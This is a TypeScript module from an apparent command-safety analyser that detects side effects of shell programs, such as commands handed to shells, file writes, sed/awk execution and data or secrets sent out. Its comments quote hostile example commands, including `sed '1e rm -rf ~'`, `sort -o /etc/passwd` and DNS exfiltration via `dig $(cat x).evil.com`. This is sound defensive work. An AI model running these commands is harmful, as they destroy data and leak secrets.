/** Reads side effects that are not a program's main purpose: `fd -x rm`, `sort -o /etc/passwd`, `sed '1e rm -rf ~'`. Only adds acts. */

import type { PreparedProgram, PreparedReach } from "../Commands.ts"
import {
  addAct,
  addNamed,
  type Context,
  nested,
  readAsShell,
  readCommandWords,
  runsCodeFrom
} from "../Context.ts"
import {
  type ProgramCall,
  beginWith,
  findForm,
  lineOf,
  onlyOperand,
  readProgramArguments
} from "../matchProgram.ts"
import { type CommandWord, globFits, noFlow, plainWord } from "../paths.ts"
import { readAwkScript, readSedScript } from "./scripts.ts"

/**
 * Reads a text that is passed to a shell. If its first word is one that people usually give there (`rsync -e ssh`), only definitely grave
 * acts in it count.
 */
export const readHandedText = (context: Context, word: CommandWord, usual: ReadonlyArray<string>): void => {
  const text = word.value.trim()
  if (text === "") return
  const inside = nested(context)
  if (runsCodeFrom(inside, word.flow)) return
  const first = text.split(/\s/, 1)[0] ?? ""
  const name = first.slice(first.lastIndexOf("/") + 1)
  const { found, unread } = context.session
  const { plainProgram, unknownProgram } = context.commands.acts
  const { length } = found
  readAsShell(inside, text)
  // Naming a program in a setting is not an ordinary call of it.
  for (const one of found.slice(length))
    if (one.act === plainProgram) found.push({ ...one, act: unknownProgram })
  if (!usual.some((glob) => globFits(glob, name))) return
  const added = found.splice(length)
  found.push(
    ...added.filter(({ act }) => (act.impact === "high" || act.impact === "critical") && !act.unread)
  )
  context.session.unread = unread
}

/** Markup before a command in a task list: `- run:`, `"postinstall": "`. */
const taskMarks = /^[\s@-]*(?:"?[\w:.-]+"?:\s+)?"?/
const inBackticks = /`([^`\n]+)`/g
const linesMax = 40

/**
 * Reads lines for a file that runs automatically or that agents obey. Only definitely grave acts in them count, because writing the file
 * counts anyway.
 */
export const readObeyedLines = (context: Context, text: string): void => {
  for (const line of text.split("\n", linesMax)) {
    const plain = line.replace(taskMarks, "").replace(/"?,?\s*$/, "")
    for (const one of [plain, ...Array.from(line.matchAll(inBackticks), ([, span = ""]) => span)])
      if (/\w\s/.test(one)) readHandedText(context, plainWord(one), ["*"])
  }
}

/** Adds the effect of setting a variable: some contain commands, and some determine where programs are found. */
export const readSetVariable = (context: Context, name: string, word: CommandWord): void => {
  const variable = context.commands.variables.get(name)
  if (variable === undefined) return
  if (variable.guards) return addNamed(context, "guardChanged", "variable.set")
  if (variable.runs)
    return readHandedText(context, { ...word, value: word.value.replace(/^[!|]/, "") }, variable.usual)
  const places = variable.list ? word.value.split(":") : [word.value]
  const isStrange = places.some((place) => {
    const folded = place.toLowerCase()
    if (variable.where.some((glob) => globFits(glob, folded))) return true
    return (
      variable.unless.length > 0 && folded !== "" && !variable.unless.some((glob) => globFits(glob, folded))
    )
  })
  if (isStrange) addNamed(context, "evalCode", "variable.set")
}

/** Where a command may begin: at the first word that is not a flag, and after `--`. */
const beginnings = (
  words: ReadonlyArray<CommandWord>,
  values: ReadonlyArray<string>
): ReadonlyArray<number> => {
  const first = words.findIndex(({ value }, i) => {
    const isValue = i > 0 && values.includes(words[i - 1]?.value ?? "")
    return !value.startsWith("-") && !isValue && !/^[A-Za-z_]\w*=/.test(value)
  })
  const dashes = words.findIndex(({ value }) => value === "--")
  const behind = dashes === -1 || dashes + 1 >= words.length ? -1 : dashes + 1
  return [...new Set([first, behind])].filter((place) => place >= 0)
}

/** An unknown program is a task or a script of the project, which the wrapper's own form already covers. */
const readInner = (context: Context, words: ReadonlyArray<CommandWord>): void => {
  const { found, unread } = context.session
  const { length } = found
  const { ownCode, plainProgram, unknownProgram } = context.commands.acts
  readCommandWords(nested(context), words)
  const unknown = [unknownProgram, plainProgram, ownCode]
  const known = found.splice(length).filter(({ act }) => !unknown.some((one) => one === act))
  found.push(...known)
  if (known.length === 0) context.session.unread = unread
}

const readWrapped = (call: ProgramCall, reach: PreparedReach): void => {
  const { operands, places } = call.given
  for (const front of reach.runsWords) {
    const last = front.length === 0 ? -1 : places[front.length - 1]
    if (!beginWith(operands, front) || last === undefined) continue
    const rest = call.words.slice(last + 1)
    for (const from of beginnings(rest, reach.values))
      if (!reach.tasks.some((glob) => globFits(glob, rest[from]?.value ?? "")))
        readInner(call.context, rest.slice(from))
  }
}

/** Sends data as a side effect: `ping -p $(cat key) x.y`, `openssl s_client < key`. */
const readSent = (
  { context, program }: ProgramCall,
  { sends }: PreparedReach,
  values: ReadonlyArray<CommandWord>
): void => {
  const made = values.filter(({ dynamicFrom }) => dynamicFrom !== undefined)
  const flows = [
    ...(sends.includes("<") ? [context.stdin] : []),
    ...made.map(({ flow }) => ({ ...flow, data: true }))
  ]
  if (flows.some(({ secret }) => secret)) addNamed(context, "secretSent", `${program.name}.send`)
  else if (flows.some(({ data }) => data === true)) addNamed(context, "dataSent", `${program.name}.send`)
}

/** The minimum length of an abbreviated long flag in GNU programs. */
const shortened = "--xxx".length

/** The text after `flag` in a word. Undefined if the word is not this flag; empty if the value is the next word. */
const attached = (text: string, flag: string): string | undefined => {
  if (text === flag) return ""
  if (!flag.startsWith("--")) {
    if (flag.length === 2 && text.startsWith(flag)) return text.slice(2).replace(/^=/, "")
    return text.startsWith(`${flag}=`) ? text.slice(flag.length + 1) : undefined
  }
  const equals = text.indexOf("=")
  const name = equals === -1 ? text : text.slice(0, equals)
  if (name.length < shortened || !flag.startsWith(name)) return undefined
  return equals === -1 ? "" : text.slice(equals + 1)
}

/** The values of flags, even if the program's entry takes such a flag for the value of another one. */
const valuesOf = (
  { given, words }: Pick<ProgramCall, "given" | "words">,
  flags: ReadonlyArray<string>
): Array<CommandWord> =>
  flags.flatMap((one) => {
    const [flag = "", name] = one.split("=")
    const behind = words.flatMap((word, i) => (word.value === flag ? (words[i + 1] ?? []) : []))
    const values = [...new Set([...(given.flags.get(flag) ?? []), ...behind])]
    // In `-o=ProxyCommand`, the value of `-o` counts only after that name.
    return values.flatMap((word): ReadonlyArray<CommandWord> => {
      if (name === undefined) return [word]
      if (!word.value.toLowerCase().startsWith(name.toLowerCase())) return []
      return [{ ...word, value: word.value.slice(name.length).replace(/^[\s=]+/, "") }]
    })
  })

/** The texts that the program passes to a shell. */
const textsOf = ({ given, words }: ProgramCall, reach: PreparedReach): ReadonlyArray<CommandWord> => {
  const texts = [...valuesOf({ given, words }, reach.runs), ...(reach.runsEach ? given.operands : [])]
  for (const word of words)
    for (const beginning of reach.runsBeginnings)
      if (word.value.startsWith(beginning))
        texts.push({ ...word, value: word.value.slice(beginning.length).replaceAll("% ", " ") })
  for (const behind of reach.runsBehind) {
    const fits = beginWith(given.operands, behind)
    const from = given.places[behind.length - 1]
    if (!fits || from === undefined) continue
    const rest = words.slice(from + 1)
    const start = rest.findIndex(({ value }, i) => {
      const afterValue = i > 0 && reach.values.includes(rest[i - 1]?.value ?? "")
      return !value.startsWith("-") && !afterValue
    })
    const kept = rest
      .slice(Math.max(0, start))
      .filter(({ value }) => !reach.drops.some((glob) => globFits(glob, value)))
    const [first] = kept
    if (start >= 0 && first !== undefined)
      texts.push({ ...first, value: kept.map(({ value }) => value).join(" ") })
  }
  return texts
}

const keyFits = (keys: ReadonlyArray<string>, key: string): boolean =>
  keys.some((glob) => globFits(glob, key.toLowerCase()))

/** The settings given to the program: `-c core.pager=x`, `config core.pager x`. */
const settingsOf = (call: ProgramCall): ReadonlyArray<readonly [key: string, value: CommandWord]> => {
  const settings: Array<readonly [string, CommandWord]> = []
  for (const word of valuesOf(call, ["-c"])) {
    const equals = word.value.indexOf("=")
    if (equals > 0)
      settings.push([word.value.slice(0, equals), { ...word, value: word.value.slice(equals + 1) }])
  }
  const { operands } = call.given
  operands.forEach(({ value }, i) => {
    const next = operands[i + 1]
    if (i > 0 && next !== undefined && operands[0]?.value === "config") settings.push([value, next])
  })
  return settings
}

const readSettings = (call: ProgramCall, { keys, shellKeys, usual }: PreparedReach): void => {
  if (keys.length === 0 && shellKeys.length === 0) return
  for (const [key, word] of settingsOf(call)) {
    const isForShell = keyFits(shellKeys, key) && /^[!/]/.test(word.value)
    if (keyFits(keys, key)) readHandedText(call.context, word, usual)
    else if (isForShell) readHandedText(call.context, { ...word, value: word.value.replace(/^!/, "") }, usual)
  }
}

/** `-x rm -rf {} ;`: each found path is appended as the last word, or replaces `{}`. */
const readRest = ({ context, words }: ProgramCall, { runsRest }: PreparedReach): void => {
  const found: CommandWord = { ...plainWord(""), dynamicFrom: 0 }
  for (const flag of runsRest) {
    const from = words.findIndex(({ value }) => attached(value, flag) !== undefined)
    if (from === -1) continue
    const first = attached(words[from]?.value ?? "", flag) ?? ""
    const behind = words.slice(from + 1)
    const end = behind.findIndex(({ value }) => value === ";")
    const rest = end === -1 ? behind : behind.slice(0, end)
    const named = rest.some(({ value }) => value.includes("{"))
    const all = [
      ...(first === "" ? [] : [plainWord(first)]),
      ...rest.map((word) => (word.value === "{}" ? found : word)),
      ...(named ? [] : [found])
    ]
    readCommandWords(nested(context, noFlow), all)
  }
}

/** Adds the act of `> file`, even if it is small, because the program did more than read. */
const addWrite = (context: Context, file: CommandWord): void => {
  const program = context.commands.programs.get(">")
  if (program === undefined) return
  const form = findForm(program, onlyOperand(file), context.shell.classOf)
  if (form !== undefined) addAct(context, "file.write", form.act, lineOf(program, form))
}

const readScript = ({ context, given }: ProgramCall, { script, usual }: PreparedReach): void => {
  if (script === undefined || given.flags.has("--sandbox")) return
  const flags = script === "sed" ? ["-e", "--expression"] : ["-e", "--source"]
  const stated = flags.flatMap((flag) => given.flags.get(flag) ?? [])
  const isInFile = given.flags.has("-f") || given.flags.has("--file")
  const [first] = given.operands
  const parts = stated.length > 0 || isInFile ? stated : first === undefined ? [] : [first]
  const text = parts.map(({ value }) => value).join("\n")
  const deeds = script === "sed" ? readSedScript(text) : readAwkScript(text)
  for (const run of deeds.runs) readHandedText(context, plainWord(run), usual)
  for (const file of deeds.writes) addWrite(context, plainWord(file))
  if (deeds.unread) addNamed(context, "evalCode", "code")
}

/** `dig $(cat x).evil.com`: the name server of that domain sees the secret in the query. */
const readAskedNames = ({ context, words }: ProgramCall): void => {
  for (const { flow, value } of words) {
    const host = value.toLowerCase().replace(/\.$/, "")
    const isNearby = context.commands.nearby.some((ending) => host.endsWith(ending))
    if (!/\$\(\)[\w-]*\.\w/.test(value) || isNearby) continue
    addNamed(context, flow.secret ? "secretSent" : "dataSent", "name.ask")
  }
}

/** A quoted word of a program that only reads may be meant for another program. Only definitely grave acts in it count. */
const readQuoted = ({ context, program, words }: ProgramCall): void => {
  if (!program.onlyReads) return
  for (const word of words) {
    const text = word.value.replace(/^--?[\w-]+=/, "")
    const space = text.indexOf(" ")
    if (space > 0 && context.commands.quotedBeginnings.has(text.slice(0, space)))
      readHandedText(context, { ...word, value: text }, ["*"])
  }
}

/** The variables set before a command: `env PATH=/tmp/x ls`. */
const variablesIn = (words: ReadonlyArray<CommandWord>): ReadonlyArray<readonly [string, CommandWord]> => {
  const found: Array<readonly [string, CommandWord]> = []
  for (const word of words) {
    const [, name, value = ""] = /^([A-Za-z_]\w*)=([^]*)$/.exec(word.value) ?? []
    if (name !== undefined) found.push([name, { ...word, value }])
    else if (!word.value.startsWith("-")) break
  }
  return found
}

/** The environment of a command after these assignments. */
export const withVariables = (
  environment: Context["environment"],
  words: ReadonlyArray<CommandWord>
): Context["environment"] => {
  const set = variablesIn(words)
  return set.length === 0 ? environment : new Map([...(environment ?? []), ...set])
}

/** A program extended by the flags with values that one of its subcommands has. */
const withFlagsOf = (program: PreparedProgram, { runs, sends, writes }: PreparedReach): PreparedProgram => {
  const flags = [...runs, ...sends, ...writes].map((flag) => flag.split("=", 1)[0] ?? "")
  return {
    ...program,
    values: new Set([...program.values, ...flags]),
    longFlags: [...program.longFlags, ...flags.filter((flag) => flag.startsWith("--"))]
  }
}

export const readReaches = (plain: ProgramCall): void => {
  const { context, program, words } = plain
  for (const reach of program.reaches) {
    const isForAll = reach.only.length === 0
    if (!isForAll && !reach.only.includes(plain.given.operands[0]?.value ?? "")) continue
    const given = isForAll ? plain.given : readProgramArguments(withFlagsOf(program, reach), words)
    const call = { ...plain, given }
    for (const text of textsOf(call, reach)) readHandedText(context, text, reach.usual)
    readSettings(call, reach)
    readRest(call, reach)
    readWrapped(call, reach)
    readSent(call, reach, valuesOf(call, reach.sends))
    for (const file of valuesOf(call, reach.writes)) addWrite(context, file)
    if (reach.edits.some((flag) => given.flags.has(flag)))
      for (const file of given.operands.slice(1)) addWrite(context, file)
    readScript(call, reach)
    if (reach.asksNames) readAskedNames(call)
    const form = findForm({ ...program, forms: reach.forms }, given, context.shell.classOf)
    if (form !== undefined) addAct(context, program.name, form.act, lineOf(program, form))
  }
  readQuoted(plain)
  if (program.runs === "rest")
    for (const [name, word] of variablesIn(words)) readSetVariable(context, name, word)
}
